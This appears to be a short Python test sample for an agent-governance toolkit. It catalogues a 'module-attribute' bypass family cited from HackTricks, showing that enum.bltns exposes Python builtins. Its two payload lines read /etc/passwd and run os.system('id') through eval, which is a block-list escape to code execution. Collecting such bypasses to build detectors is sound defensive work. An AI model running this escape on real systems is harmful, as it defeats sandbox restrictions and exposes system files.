# Source: HackTricks AI model RCE page (Hydra block-list bypass via enum.bltns.eval); https://github.com/microsoft/agent-governance-toolkit/pull/2631
# Family: module-attribute
# What: enum.bltns is the builtins module: open and __import__ come back
import enum

print(enum.bltns.open("/etc/passwd").read())
enum.bltns.eval("__import__('os').system('id')")
